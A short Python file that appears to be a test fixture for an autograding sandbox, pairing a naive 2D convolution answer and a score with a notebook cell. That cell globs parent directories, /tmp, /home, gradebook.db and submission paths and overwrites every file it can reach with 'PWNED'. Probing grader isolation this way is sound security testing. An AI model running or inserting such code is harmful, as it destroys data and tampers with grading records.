"""Write over gradebook, submissions and results wherever they might lie."""

CELLS = [
    """
import glob, os
for pattern in ("../../../*", "../../*/*/*", "/*/*/gradebook.db", "/*/*/submitted/*/*/*", "/tmp/**/*", "/home/**/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "r+b") as file: file.write(b"PWNED")
        except OSError:
            pass
"""
]
ANSWER = """
def conv2d_naive(x, w):
    rows, columns = x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1
    y = np.zeros((rows, columns))
    for i in range(rows):
        for j in range(columns):
            y[i, j] = (x[i : i + w.shape[0], j : j + w.shape[1]] * w).sum()
    return y
"""
SCORE = 4
